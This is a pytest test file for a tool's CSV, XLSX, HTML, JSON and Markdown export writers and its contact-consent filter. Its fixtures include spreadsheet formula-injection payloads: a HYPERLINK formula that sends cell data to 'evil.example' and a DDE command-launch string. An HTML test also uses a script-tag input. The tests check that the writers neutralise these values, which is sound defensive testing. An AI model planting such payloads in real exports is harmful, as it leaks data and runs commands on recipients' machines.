"""The writers: formula neutralisation, consent filter, and each format's shape."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elca_match import export
from elca_match.errors import UsageError
from elca_match.export import Document, Heatmap, Section, neutralise, release_contacts, unneutralise
from elca_match.export.cells import formula_like
from elca_match.export.xlsx import MAX_SHEET_NAME, SUMMARY_SHEET, sheet_names

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=already quoted",
    "=cmd|' /C calc'!A0",
]
COLUMNS = ["rank", "organisation", "cluster", "score", "delta", "materials", "why"]


def _section(title: str = "Opportunity JP-01", names=HOSTILE) -> Section:
    rows = [[i + 1, name, "AMZ", 0.5 + i / 100, -2, ["cfrp", "rtm"], f"shares {name}"]
            for i, name in enumerate(names)]
    return Section(title, list(COLUMNS), rows, notes=["Scores are cosine fit."],
                   number_formats={"score": "0.000"})


def _document(*sections: Section) -> Document:
    return Document(
        "Shortlist: Japan",
        list(sections) or [_section()],
        summary={"query": "--country japan", "database": "elca.db",
                 "counts per cluster": {"AMZ": 3, "MECH": 2}},
        notes=["3 contacts withheld."],
        heatmaps=[Heatmap("Fit by cluster", ["AMZ", "MECH"], ["materials", "design"], [[0.2, 0.9], [0.5, None]])],
    )


# --- formula neutralisation -------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'x", "''x"),
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("", ""),
    (-2, -2),
    (-0.5, -0.5),
    (None, None),
])
def test_neutralise__table(value, written):
    assert neutralise(value) == written


@pytest.mark.slow  # 200 examples; the table above keeps the fast loop's cases
@settings(max_examples=200)
@given(st.text())
def test_neutralise__reversible_and_never_formula_like(value):
    written = neutralise(value)
    assert not formula_like(written)
    assert unneutralise(written) == value


def test_csv__hostile_text__neutralised_and_reread_as_original(tmp_path):
    path = tmp_path / "out.csv"
    export.write(_document(), "csv", path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == COLUMNS
    names = [row[1] for row in rows[1:]]
    assert all(not formula_like(n) for n in names)
    assert [unneutralise(n) for n in names] == HOSTILE
    # Negative numbers are numbers, not text: written without a prefix.
    assert {row[4] for row in rows[1:]} == {"-2"}
    assert rows[1][3] == "0.5"


@settings(max_examples=60)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_csv__any_text__reread_by_the_rule_as_the_original(names):
    rows = list(csv.reader(io.StringIO(export.render(_document(_section(names=names)), "csv"), newline="")))
    assert [unneutralise(row[1]) for row in rows[1:]] == names


@settings(max_examples=30)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)
                | st.sampled_from([*HOSTILE, "\x0b=1", " x ", "\x00", "a\r\nb"]), min_size=1, max_size=5))
def test_xlsx__any_text__stored_as_text_never_formula(tmp_path_factory, names):
    path = tmp_path_factory.mktemp("x") / "out.xlsx"
    export.write(_document(_section(names=names)), "xlsx", path)
    sheet = openpyxl.load_workbook(path).worksheets[2]
    cells = [row[1] for row in sheet.iter_rows(min_row=2, max_row=len(names) + 1)]
    expected = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", n).replace("\r\n", "\n").replace("\r", "\n") or None
                for n in names]  # XML stores line ends as LF
    assert [c.value for c in cells] == expected
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    assert _formula_cells(path) == 0


def test_csv__stream__no_bom():
    assert not export.render(_document(), "csv").startswith("\ufeff")


def test_csv__sections_with_same_columns__one_table_with_section_column():
    doc = _document(_section("JP-01", ["a", "b"]), _section("=JP-02", ["c"]))
    rows = list(csv.reader(io.StringIO(export.render(doc, "csv"))))
    assert rows[0] == ["section", *COLUMNS]
    assert [(r[0], r[2]) for r in rows[1:]] == [("JP-01", "a"), ("JP-01", "b"), ("'=JP-02", "c")]


def test_csv__sections_with_different_columns__one_table_the_document_names():
    other = Section("Members: who", ["org", "n"], [["x", 1]])
    doc = _document(_section("JP-01", ["a"]), other)
    rows = list(csv.reader(io.StringIO(export.render(doc, "csv"))))
    assert rows[0] == COLUMNS and len(rows) == 2 and rows[1][:3] == ["1", "a", "AMZ"]  # the first, alone
    doc.table = "members"
    assert list(csv.reader(io.StringIO(export.render(doc, "csv")))) == [["org", "n"], ["x", "1"]]
    doc.table = "member"
    with pytest.raises(UsageError, match="did you mean 'members'.*jp-01, members"):
        export.render(doc, "csv")


# --- xlsx -----------------------------------------------------------------------------------

def _formula_cells(path: Path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(archive.read(n).count(b"<f>") + archive.read(n).count(b"<f ")
                   for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx__sheets_header_panes_filter_formats_and_no_formula(tmp_path):
    path = tmp_path / "out.xlsx"
    export.write(_document(_section("JP-01: CFRP/rail [mature]?"), _section("JP-01: CFRP/rail [mature]?")),
                 "xlsx", path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [SUMMARY_SHEET, "Fit by cluster", "JP-01- CFRP-rail (mature)_",
                               "JP-01- CFRP-rail (mature)_ (2)"]
    for sheet in book.worksheets[2:]:
        assert [c.value for c in sheet[1]] == COLUMNS
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:G{len(HOSTILE) + 1}"
        body = list(sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1))
        # Exact text (XML stores a line end as LF, so CR comes back as LF) ...
        assert [r[1].value for r in body] == [h.replace("\r", "\n") for h in HOSTILE]
        assert all(r[1].data_type == "s" for r in body)  # ... stored as text ...
        assert [bool(r[1].quotePrefix) for r in body] == [formula_like(h) for h in HOSTILE]  # ... kept text on edit
        assert all(isinstance(r[3].value, float) and r[3].number_format == "0.000" for r in body)
        assert all(r[4].value == -2 and r[4].data_type == "n" for r in body)
        assert all(r[6].alignment.wrap_text for r in body)
        assert sheet.column_dimensions["G"].width >= 40
        assert 6 <= sheet.column_dimensions["B"].width <= 45
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)
    assert _formula_cells(path) == 0


def test_xlsx__summary_sheet_lists_query_counts_and_notes(tmp_path):
    path = tmp_path / "out.xlsx"
    export.write(_document(), "xlsx", path)
    sheet = openpyxl.load_workbook(path)[SUMMARY_SHEET]
    cells = {(c.value) for row in sheet.iter_rows() for c in row if c.value is not None}
    assert {"Shortlist: Japan", "query", "--country japan", "AMZ", 3, "3 contacts withheld."} <= cells


def test_xlsx__heatmap__sheet_of_numbers_with_a_colour_scale(tmp_path):
    path = tmp_path / "out.xlsx"
    export.write(_document(), "xlsx", path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [SUMMARY_SHEET, "Fit by cluster", "Opportunity JP-01"]
    sheet = book["Fit by cluster"]
    assert [[c.value for c in row] for row in sheet.iter_rows(max_row=3)] == [
        [None, "materials", "design"], ["AMZ", 0.2, 0.9], ["MECH", 0.5, None]]
    assert sheet["B2"].number_format == "0.00"
    assert [r.type for cf in sheet.conditional_formatting for r in cf.rules] == ["colorScale"]


def test_md__heatmap__table_of_values():
    text = export.render(_document(), "md")
    assert "| AMZ | 0.20 | 0.90 |" in text and "| MECH | 0.50 | – |" in text


def test_xlsx__to_a_stream__usage_error():
    with pytest.raises(UsageError, match="needs out FILE.xlsx"):  # the option by its name: no command line here
        export.write(_document(), "xlsx", io.StringIO())


@settings(max_examples=100)
@given(st.lists(st.text(max_size=50), min_size=1, max_size=8))
def test_sheet_names__always_valid_and_unique(titles):
    names = sheet_names(titles)
    assert len(names) == len(titles)
    folded = [n.casefold() for n in names]
    assert len(set(folded)) == len(folded) and SUMMARY_SHEET.casefold() not in folded
    for name in names:
        assert 0 < len(name) <= MAX_SHEET_NAME
        assert not re.search(r"[\[\]:*?/\\]", name)
        assert not name.startswith("'") and not name.endswith("'")


# --- html, json, md ---------------------------------------------------------------------------

def test_html__escapes_typed_text_and_fetches_nothing():
    doc = _document(_section(names=["<script>alert(1)</script>", 'A & "B"']))
    doc.heatmaps[0].row_labels[0] = "<b>AMZ</b>"
    page = export.render(doc, "html")
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;b&gt;AMZ&lt;/b&gt;" in page
    assert "A &amp; &quot;B&quot;" in page
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page)
    assert "<svg" in page and page.count("<rect") >= 4


def test_json__keeps_exact_text_and_serialises_data():
    @dataclasses.dataclass
    class Hit:
        name: str
        score: float
        tags: tuple[str, ...]

    doc = _document()
    plain = json.loads(export.render(doc, "json"))
    assert [row["organisation"] for row in plain["sections"][0]["rows"]] == HOSTILE
    doc.data = {"hits": [Hit("=1+1 <b>", 0.25, ("x",))]}
    assert json.loads(export.render(doc, "json")) == {"hits": [{"name": "=1+1 <b>", "score": 0.25, "tags": ["x"]}]}


def test_md__pipes_escaped_one_line_per_row():
    doc = _document(_section(names=["a|b", "line\nbreak", "<i>x</i>"]))
    doc.heatmaps = []
    text = export.render(doc, "md")
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) == 2 + 3
    assert r"a\|b" in text and r"\<i\>x\</i\>" in text
    assert all(line.count("|") - line.count(r"\|") == len(COLUMNS) + 1 for line in table)


# --- write() -------------------------------------------------------------------------------

def test_write__unknown_format__suggests_closest():
    with pytest.raises(UsageError, match="did you mean 'xlsx'"):
        export.write(_document(), "xslx", io.StringIO())


def test_write__failure__leaves_no_file(tmp_path, monkeypatch):
    import elca_match.export.xlsx as xlsx

    def boom(document, path):
        Path(path).write_bytes(b"half")
        raise RuntimeError("disk full")

    monkeypatch.setattr(xlsx, "write_xlsx", boom)
    with pytest.raises(RuntimeError):
        export.write(_document(), "xlsx", tmp_path / "out.xlsx")
    assert list(tmp_path.iterdir()) == []


# --- consent -------------------------------------------------------------------------------

@dataclasses.dataclass
class _Member:
    org_key: str
    consent: bool
    answers: dict


_MEMBERS = [
    _Member("a", True, {"contact_name": "Ana", "contact_email": "ana@a.example"}),
    _Member("b", False, {"contact_name": "Bo", "contact_email": "bo@b.example"}),
    _Member("c", True, {}),
    _Member("a", True, {"contact_name": "Ana", "contact_email": "ana@a.example"}),  # listed twice
    _Member("d", False, {"contact_email": "d@d.example"}),
]


@pytest.mark.parametrize(("requested", "shown", "withheld"), [
    (True, {"a"}, 2),
    (False, set(), 3),
])
def test_release_contacts__only_requested_and_consented(requested, shown, withheld):
    release = release_contacts(_MEMBERS, requested=requested)
    assert set(release.contacts) == shown and release.withheld == withheld
    assert release.contact("b") is None
    assert str(withheld) in release.summary_text()


# --- size (the speed target, under 2 s, is measured by benchmarks/bench_latency.py) ---------

@pytest.mark.parametrize("fmt", export.FORMATS)
def test_write__600_members__written(tmp_path, fmt):
    names = [f"Member {i} GmbH" for i in range(600)]
    sections = [_section(f"Opportunity {k}", names[k * 30:(k + 1) * 30]) for k in range(20)]
    doc = _document(_section("All", names), *sections)
    export.write(doc, fmt, tmp_path / f"out.{fmt}")
    assert (tmp_path / f"out.{fmt}").stat().st_size > 0
